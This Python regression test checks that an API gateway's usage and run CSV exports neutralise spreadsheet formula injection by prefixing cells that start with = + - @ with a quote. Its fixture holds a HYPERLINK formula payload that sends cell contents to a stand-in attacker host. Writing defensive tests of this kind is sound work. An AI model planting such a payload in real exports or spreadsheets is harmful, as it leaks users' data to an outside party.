"""Issue 17, finding 6 (CSV part): client strings in the usage and run CSV exports were written as
they came, so a cell like `=HYPERLINK(...)` ran as a formula in the spreadsheet that opened the
export. Text cells starting with `= + - @` now get a leading `'`; numbers are unchanged."""

from __future__ import annotations

import csv
import io
import time
from pathlib import Path

from ..e2e.admin_client import AdminClient
from ..e2e.conftest import make_client, wait_keys_loaded
from ..e2e.gateway import MASTER_KEY, GatewayFactory
from ..e2e.test_runs import admin_get, runs_config
from ..upstreams.openai_mock import MockUpstream

FORMULA_NAME = '=HYPERLINK("http://evil.example/"&A1,"x")'
FORMULA_RUN = "=1+2"


def _rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode())))


def test_usage_and_run_exports_do_not_carry_formulas(
    gateway_factory: GatewayFactory, upstream: MockUpstream, tmp_path: Path
) -> None:
    gateway = gateway_factory(runs_config(upstream, f"sqlite:///{tmp_path / 'csv.db'}"))
    admin = AdminClient(gateway, MASTER_KEY)
    key = admin.ok("POST", "/keys", {"name": FORMULA_NAME}, status=201)["key"]
    wait_keys_loaded(gateway, [key])
    with make_client(gateway, key) as client:
        client.chat.completions.create(
            model="gpt-run",
            messages=[{"role": "user", "content": "hi"}],
            extra_headers={"x-gatecore-run-id": FORMULA_RUN},
        )
    deadline = time.monotonic() + 15
    while True:
        status, content_type, body = admin_get(gateway, "/usage?group_by=key&format=csv")
        if status == 200 and len(_rows(body)) > 1:
            break
        assert time.monotonic() < deadline, (status, body)
        time.sleep(0.1)
    assert content_type.startswith("text/csv")
    names = [row[1] for row in _rows(body)[1:]]
    assert "'" + FORMULA_NAME in names, names
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in _rows(body) for cell in row)

    status, _, body = admin_get(gateway, f"/runs/{FORMULA_RUN}/requests?format=csv")
    assert status == 200, body
    rows = _rows(body)
    key_column = rows[0].index("key_name")
    assert [row[key_column] for row in rows[1:]] == ["'" + FORMULA_NAME]
    assert not any(cell.startswith(("=", "+", "@")) for row in rows[1:] for cell in row)
